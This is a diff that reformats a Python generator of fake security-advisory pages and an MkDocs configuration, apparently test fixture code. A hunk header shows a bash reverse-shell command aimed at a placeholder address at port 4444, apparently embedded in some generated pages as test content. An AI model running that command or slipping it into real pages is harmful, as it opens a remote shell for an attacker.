@@ -71,16 +71,49 @@ bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
 
 """
 
-ISSUES = ["Heap overflow", "Authentication bypass", "Path traversal", "SQL injection",
-          "Use after free", "Improper certificate validation", "Integer overflow"]
-COMPONENTS = ["header parser", "session manager", "file upload handler", "query builder",
-              "TLS client", "image decoder", "configuration importer"]
-INPUTS = ["a crafted header", "an unbound session token", "a relative path",
-          "a quoted identifier", "a truncated record", "a self-signed chain"]
-IMPACTS = ["crash the service", "reach administrative pages", "read arbitrary files",
-           "change stored records", "run code in the worker process"]
-HEADINGS = ["Overview", "Details", "Affected versions", "Remediation", "Mitigation",
-            "Timeline", "Credits", "References"]
+ISSUES = [
+    "Heap overflow",
+    "Authentication bypass",
+    "Path traversal",
+    "SQL injection",
+    "Use after free",
+    "Improper certificate validation",
+    "Integer overflow",
+]
+COMPONENTS = [
+    "header parser",
+    "session manager",
+    "file upload handler",
+    "query builder",
+    "TLS client",
+    "image decoder",
+    "configuration importer",
+]
+INPUTS = [
+    "a crafted header",
+    "an unbound session token",
+    "a relative path",
+    "a quoted identifier",
+    "a truncated record",
+    "a self-signed chain",
+]
+IMPACTS = [
+    "crash the service",
+    "reach administrative pages",
+    "read arbitrary files",
+    "change stored records",
+    "run code in the worker process",
+]
+HEADINGS = [
+    "Overview",
+    "Details",
+    "Affected versions",
+    "Remediation",
+    "Mitigation",
+    "Timeline",
+    "Credits",
+    "References",
+]
 
 
 def _no_opinion(n: int) -> bool:
@@ -113,8 +146,13 @@ def page_text(n: int, size: int = 2_000, held: bool = True) -> str:
     product = f"EX-{100 + n % 900} gateway"
     version = f"{1 + n % 5}.{n % 10}.{n % 7}"
     text = FRONT_MATTER.format(
-        n=n, day=1 + n % 28, issue=rng.choice(ISSUES), product=product, vendor=vendor,
-        version=version, opinion="" if no_opinion else OPINION.format(n=n, version=version),
+        n=n,
+        day=1 + n % 28,
+        issue=rng.choice(ISSUES),
+        product=product,
+        vendor=vendor,
+        version=version,
+        opinion="" if no_opinion else OPINION.format(n=n, version=version),
         notified="2026-11-10" if no_opinion else "2026-10-05",
     )
     text += f"# Advisory {n}\n\n"
@@ -122,9 +160,15 @@ def page_text(n: int, size: int = 2_000, held: bool = True) -> str:
         text += SHELL
     while len(text) < size:
         text += SECTION.format(
-            heading=rng.choice(HEADINGS), component=rng.choice(COMPONENTS), product=product,
-            version=version, input=rng.choice(INPUTS), impact=rng.choice(IMPACTS),
-            vendor=vendor, cwe=rng.randrange(20, 1000), cve=rng.randrange(10_000, 99_999),
+            heading=rng.choice(HEADINGS),
+            component=rng.choice(COMPONENTS),
+            product=product,
+            version=version,
+            input=rng.choice(INPUTS),
+            impact=rng.choice(IMPACTS),
+            vendor=vendor,
+            cwe=rng.randrange(20, 1000),
+            cve=rng.randrange(10_000, 99_999),
             slug=f"lib{n % 13}",
         )
     return text
@@ -163,8 +207,10 @@ def write_site(
         path.parent.mkdir(exist_ok=True)
         path.write_text(page_text(n, size, held), encoding="utf-8")
     config = root / "mkdocs.yml"
-    exclude = "" if plugin or not held else "exclude_docs: |\n" + "".join(
-        f"  /{path}\n" for path in held_pages(pages)
+    exclude = (
+        ""
+        if plugin or not held
+        else "exclude_docs: |\n" + "".join(f"  /{path}\n" for path in held_pages(pages))
     )
     config.write_text(
         MKDOCS_YML.format(plugin=PLUGIN if plugin else "", exclude=exclude), encoding="utf-8"
